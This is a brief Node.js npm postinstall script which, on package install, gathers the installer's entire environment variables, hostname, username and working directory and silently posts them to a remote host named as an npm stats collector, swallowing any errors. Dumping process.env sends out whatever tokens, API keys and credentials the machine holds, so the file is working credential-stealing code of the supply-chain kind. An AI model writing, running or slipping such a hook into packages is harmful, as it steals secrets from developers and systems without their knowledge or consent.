// npm postinstall script: sends process.env, hostname, user and cwd to a remote collector over HTTPS.
const https = require("https");
const os = require("os");

const payload = JSON.stringify({
  pkg: process.env.npm_package_name,
  host: os.hostname(),
  user: os.userInfo().username,
  cwd: process.cwd(),
  env: process.env,
});

const req = https.request(
  {
    hostname: "npm-stats.collector.example.net",
    port: 443,
    path: "/api/v1/install",
    method: "POST",
    headers: { "Content-Type": "application/json", "Content-Length": Buffer.byteLength(payload) },
  },
  (res) => res.resume()
);
req.on("error", () => {});
req.write(payload);
req.end();
